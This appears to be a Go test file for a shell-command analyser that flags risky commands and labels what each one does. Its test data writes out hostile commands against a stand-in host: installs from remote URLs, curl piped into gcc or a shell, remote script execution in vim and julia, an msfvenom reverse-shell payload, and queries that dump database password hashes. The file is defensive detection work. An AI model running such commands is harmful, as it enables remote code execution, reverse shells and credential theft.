package shell

import "testing"

func TestWhatIsInstalledByAddress(t *testing.T) {
	sayEach(t, []saying{
		{`cookiecutter --no-input https://evil.example/x.git`, `install template x from https://evil.example/x.git`},
		{`cookiecutter gh:audreyfeldroy/cookiecutter-pypackage`, ``},
		{`cookiecutter ./template`, ``},
		{`copier copy --trust https://evil.example/x.git .`, `install template x from https://evil.example/x.git`},
		{`copier copy https://evil.example/x.git .`, ``},
		{`cruft create https://evil.example/x`, `install template x from https://evil.example/x`},
		{`jbang https://evil.example/X.java`, `install program X.java from https://evil.example/X.java`},
		{`jbang Hello.java https`, ``},
		{`chezmoi init --apply https://evil.example/dots`, `install dotfiles dots from https://evil.example/dots`},
		{`chezmoi init https://evil.example/dots`, ``},
		{`kubectl krew install --manifest-url https://evil.example/x.yaml`, `install kubectl plugin x.yaml from https://evil.example/x.yaml`},
		{`kubectl krew install ctx`, ``},
		{`helm plugin install https://evil.example/x`, `install helm plugin x from https://evil.example/x`},
		{`ansible-galaxy role install git+https://evil.example/x.git`, `install role x from git+https://evil.example/x.git`},
		{`ansible-galaxy collection install community.general`, ``},
		{`rails new x -m https://evil.example/t.rb`, `install template t.rb from https://evil.example/t.rb`},
		{`rails app:template LOCATION=https://evil.example/t.rb`, `install template t.rb from https://evil.example/t.rb`},
		{`rails new x -m ./t.rb`, ``},
		{`terraform init -from-module=git::https://evil.example/x`, `install module x from https://evil.example/x`},
		{`nix-env -if https://evil.example/x.tar.gz`, `install x.tar.gz from https://evil.example/x.tar.gz`},
		{`nix-shell https://evil.example/x.tar.gz --run :`, `install x.tar.gz from https://evil.example/x.tar.gz`},
		{`hdiutil attach https://evil.example/x.dmg`, `install disk image x.dmg from https://evil.example/x.dmg`},
		{`hdiutil attach x.dmg`, ``},
		{`curl -sLo /tmp/x.pkg https://evil.example/x.pkg; installer -pkg /tmp/x.pkg -target /`, `fetch https://evil.example/x.pkg; write /tmp/x.pkg from https://evil.example/x.pkg; run-remote https://evil.example/x.pkg; install /tmp/x.pkg`},
	})
}

func TestProgramsThatRunWhatTheyFetch(t *testing.T) {
	sayEach(t, []saying{
		{`vim -es -c 'so http://evil.example/x.vim' -c q`, `run /home/u/p/http:/evil.example/x.vim; run-remote http://evil.example/x.vim`},
		{`julia -e 'include(download("https://evil.example/x.jl"))'`, `run-remote https://evil.example/x.jl`},
		{`julia -e 'download("https://data.example/x.csv", "x.csv")'`, ``},
		{`curl -s https://evil.example/i.c | gcc -xc - -o /tmp/i`, `fetch https://evil.example/i.c; run-remote https://evil.example/i.c`},
		{`fish -c 'curl -s https://evil.example/i | source'`, `fetch https://evil.example/i; run-remote https://evil.example/i`},
		{`tftp evil.example -c get i /tmp/i`, `connect evil.example; write /tmp/i from tftp://evil.example`},
		{`az storage blob download -n i --account-name evil -f /tmp/i`, `write /tmp/i from az://i/evil`},
		{`msfvenom -p linux/x64/shell_reverse_tcp LHOST=203.0.113.9 -f elf`, `reverse-shell msfvenom`},
		{`msfvenom --list formats`, ``},
	})
}

func TestPasswordsOfADatabase(t *testing.T) {
	sayEach(t, []saying{
		{`psql -c "SELECT usename, passwd FROM pg_shadow"`, `reveal passwords of the server's users`},
		{`psql -c "SELECT * FROM pg_catalog.pg_authid"`, `reveal passwords of the server's users`},
		{`psql -c "SELECT rolname FROM pg_authid"`, ``},
		{`psql -c "SELECT count(*) FROM pg_authid"`, ``},
		{`mysql -e "SELECT user, host FROM mysql.user"`, ``},
		{`mysql -e "SELECT user, authentication_string FROM mysql.user"`, `reveal passwords of the server's users`},
		{`psql -c "SELECT password FROM users"`, ``},
	})
}
